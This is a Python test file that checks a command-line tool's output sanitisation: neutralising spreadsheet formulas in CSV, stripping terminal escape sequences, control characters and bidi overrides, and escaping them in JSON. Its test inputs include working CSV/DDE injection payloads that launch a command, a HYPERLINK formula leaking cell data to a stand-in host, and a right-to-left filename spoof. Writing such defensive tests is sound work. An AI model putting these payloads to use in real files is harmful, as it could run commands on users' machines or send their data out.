"""Outputs that cannot hurt their reader: CSV cells that a spreadsheet would run as formulas get a
leading quote, terminal output loses escape sequences and control characters, table cells are not
Rich markup, JSON escapes C1 controls; ``--raw`` writes cells as they are.

The commands are real click commands run by click's runner, printing through ``render``.
"""

from __future__ import annotations

import csv
import io
import json

import click
import pytest
from click.testing import CliRunner

from personagraph.cli.output import csv_cell, echo, output_option, render, terminal_text, to_json

NASTY = [
    '=HYPERLINK("http://evil.example/?"&A1, "click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\tleading tab",
    "\rleading carriage return",
    "A nurse \x1b[31min red\x1b[0m with a \x1b]8;;http://evil.example\x07link\x1b]8;;\x07 and \x9b31m C1",
    "A [link=http://evil.example]markup[/link] [bold]persona[/bold]",
    "A bidi \u202etxt.exe\u202c trick and a bell\x07",
]


@click.command()
@output_option()
def rows_cmd(fmt: str) -> None:
    render([{"n": i, "text": text, "neg": -5} for i, text in enumerate(NASTY)], fmt, title="rows")


@click.command()
@output_option()
def echo_cmd(fmt: str) -> None:
    echo(NASTY[6])


def run(command: click.Command, *args: str) -> str:
    result = CliRunner().invoke(command, list(args))
    assert result.exit_code == 0, result.output
    return result.output


def test_terminal_text_strips_sequences_and_controls() -> None:
    assert terminal_text(NASTY[6]) == "A nurse in red with a link and 31m C1"
    assert terminal_text("tab\tand\nnewline kept, 化学者 👩‍🔬 too") == "tab\tand\nnewline kept, 化学者 👩‍🔬 too"
    assert terminal_text("NUL\x00 DEL\x7f BS\x08 VT\x0b") == "NUL DEL BS VT"
    assert terminal_text(NASTY[8]) == "A bidi txt.exe trick and a bell"
    assert terminal_text("\x1bP dcs string\x1b\\ after") == " after"
    assert terminal_text("unterminated \x1b]0;title") == "unterminated "


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-x", "'-x"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("plain", "plain"),
        ("", ""),
        (-5, "-5"),
        (-0.5, "-0.5"),
        (None, ""),
        (["=a"], '["=a"]'),
    ],
)
def test_csv_cell(value: object, cell: str) -> None:
    assert csv_cell(value) == cell
    if isinstance(value, str):
        assert csv_cell(value, raw=True) == value


def test_csv_output_neutralises_formulas() -> None:
    rows = list(csv.DictReader(io.StringIO(run(rows_cmd, "--format", "csv"))))
    assert len(rows) == len(NASTY)
    for row, text in zip(rows, NASTY, strict=True):
        assert not row["text"].startswith(("=", "+", "-", "@", "\t", "\r"))
        if text.startswith(("=", "+", "-", "@", "\t", "\r")):
            assert row["text"] == "'" + text
        assert row["neg"] == "-5"  # a number is not a formula


def test_raw_csv_is_as_stored() -> None:
    rows = list(csv.DictReader(io.StringIO(run(rows_cmd, "--format", "csv", "--raw"))))
    texts = [row["text"] for row in rows]
    assert texts[:6] == NASTY[:6] and texts[7:] == NASTY[7:]
    assert "\x1b]8;;http://evil.example\x07" in texts[6]  # click drops CSI colours off a tty; the rest is as stored


def test_table_has_no_escape_sequences_and_no_markup() -> None:
    out = run(rows_cmd, "--format", "table")
    assert "\x1b" not in out and "\x9b" not in out and "\u202e" not in out and "\x07" not in out
    assert "[link=http://evil.example]markup[/link]" in out  # shown as text, not turned into a hyperlink
    assert "]8;;" not in out


def test_plain_text_echo_is_stripped_unless_raw() -> None:
    assert run(echo_cmd) == "A nurse in red with a link and 31m C1\n"
    assert "\x1b]8;;http://evil.example\x07" in run(echo_cmd, "--raw")  # (click itself drops CSI colours off a tty)


def test_json_escapes_c1_and_bidi_losslessly() -> None:
    out = run(rows_cmd, "--format", "json")
    assert "\x1b" not in out and "\x9b" not in out and "\u202e" not in out
    assert [row["text"] for row in json.loads(out)] == NASTY
    assert to_json("\x85 next line \u2028") == '"\\u0085 next line \\u2028"'
